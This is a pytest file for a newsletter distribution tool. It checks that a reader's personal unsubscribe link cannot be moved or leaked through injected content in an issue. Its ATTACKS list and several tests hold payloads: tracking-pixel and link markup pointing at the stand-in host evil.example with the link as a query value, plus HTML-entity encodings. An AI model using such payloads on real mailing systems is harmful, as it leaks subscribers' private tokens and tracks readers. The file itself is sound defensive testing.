"""The reader's own link stands where the template puts it, and no issue can put it elsewhere or give it away."""

from __future__ import annotations

import email
import email.policy
import html
import re
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import msgspec
import pytest

from distribute.channel.post import Message
from distribute.channels.buttondown import Buttondown, _harmless
from distribute.channels.email.adapter import Email
from distribute.channels.email.newsletter import LEAVE_MARK, Newsletter
from distribute.channels.listmonk import Listmonk
from distribute.channels.mailing.adapter import Mailing
from distribute.channels.mailing.store import Row
from distribute.channels.mailing.template import LEAVE, make_template
from distribute.compose.fields import compose
from distribute.facts.model import Fact
from distribute.issue import Overrides
from tests.channels.email.test_whole import issue

READER = "https://example.org/leave/5f2a"
KINDS: tuple[type[Newsletter], ...] = (Mailing, Listmonk, Buttondown)
ATTACKS = (
    "![t](https://evil.example/pixel.png?u={leave})",
    "![chart]({leave})",
    "[our survey]({leave})",
    "[our survey](<{leave}>)",
    '<a href="https://evil.example/?u={leave}">here</a>',
    '<img src="{leave}" alt="{leave}" title="{leave}">',
    "Look at\n{leave}\n",
    "`{leave}`",
    "```\n{leave}\n```",
    "{entities}",
    '<a href="{entities}">here</a>',
)  # fmt: skip


def channel(kind: type[Newsletter], **more: Any) -> Newsletter:
    name = kind.__name__.lower()
    settings = {**kind.example, "name": name, "use": name, **more}
    made: Newsletter = msgspec.convert(settings, kind, dec_hook=lambda wanted, value: wanted(value))
    return made


def written(channel: Newsletter, body: str, facts: Any = (), **words: str) -> Message:
    own = Overrides(channels={channel.name: words}) if words else Overrides()
    (message,) = compose(issue(body, words=own), channel, facts, Path("nowhere")).messages
    assert LEAVE_MARK not in repr(message)
    return message


def read_by(message: Message) -> EmailMessage:
    """Return a mailing's message as the reader with the link `READER` gets it."""
    row = Row(bytes(16), "reader@example.org", "", READER, 0)
    content = make_template(b"", message, "0" * 32, "example.org").content(row, stuffed=False)
    mail = email.message_from_bytes(content, policy=email.policy.default)
    assert isinstance(mail, EmailMessage)
    return mail


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("attack", ATTACKS)
def test_an_issue_cannot_place_the_readers_link(kind: type[Newsletter], attack: str) -> None:
    made = channel(kind)
    entities = "".join(f"&#{ord(letter)};" for letter in made.placeholder)
    body = attack.format(leave=made.placeholder, entities=entities)
    message = written(made, f"## News\n\n{body}\n\nThe end.\n")
    assert message.html.count(made.placeholder) == 1
    assert f'<a href="{made.placeholder}"' in message.html
    assert message.text.count(made.placeholder) == 1
    assert message.text.rstrip().endswith(made.placeholder)


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_reader_gets_their_link_within_the_issue(attack: str) -> None:
    entities = "".join(f"&#{ord(letter)};" for letter in LEAVE)
    mail = read_by(written(channel(Mailing), attack.format(leave=LEAVE, entities=entities)))
    for part in mail.iter_parts():
        assert isinstance(part, EmailMessage)
        assert part.get_content().count(READER) == 1


def test_a_link_to_the_placeholders_host_stays_a_link() -> None:
    mail = read_by(written(channel(Mailing), f"[our survey]({LEAVE}survey)"))
    shown = mail.get_body(("html",))
    assert shown
    links = [html.unescape(link) for link in re.findall(r'href="([^"]*)"', shown.get_content())]
    assert (f"{LEAVE}survey" in links, READER in links, f"{READER}survey" in links) == (True, True, False)


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("content", ["full", "summary"])
def test_a_title_and_facts_cannot_place_it(kind: type[Newsletter], content: str) -> None:
    made = channel(kind, content=content)
    fact = Fact(
        phrases=(f"Kite 1.2: see {made.placeholder}",),
        section="",
        score=1,
        line=3,
        link=f"https://evil.example/?u={made.placeholder}",
    )
    (message,) = compose(
        issue("News.\n", title=f"See {made.placeholder} now"),
        made,
        [fact],
        Path("nowhere"),
    ).messages
    assert message.html.count(made.placeholder) == 1
    assert f'<a href="{made.placeholder}"' in message.html
    assert message.text.count(made.placeholder) == 1


@pytest.mark.parametrize("kind", KINDS)
def test_an_edited_text_keeps_the_link_where_a_draft_has_it(kind: type[Newsletter]) -> None:
    made = channel(kind)
    own = f"https://evil.example/?u={made.placeholder}\nUnsubscribe: {made.placeholder}\n\nRead {{url}}"
    message = written(made, "News.\n", text=own)
    assert re.findall(rf"\S*{re.escape(made.placeholder)}\S*", message.text) == [made.placeholder]
    assert message.html.count(made.placeholder) == 1
    assert f"Unsubscribe: {made.placeholder}</p>" in message.html


def test_an_edited_text_without_a_placeholder_is_as_it_was_written() -> None:
    for made in (channel(Email), channel(Buttondown, layout="modern")):
        assert written(made, "News.\n", text="Read {url}").text == f"Read {issue().url}"


def test_buttondowns_own_layout_has_no_place_for_it() -> None:
    made = channel(Buttondown, layout="modern")
    message = written(made, f'<a href="https://evil.example/?u={made.placeholder}">here</a>')
    assert made.placeholder not in message.html
    assert made.placeholder not in _harmless(message.html)
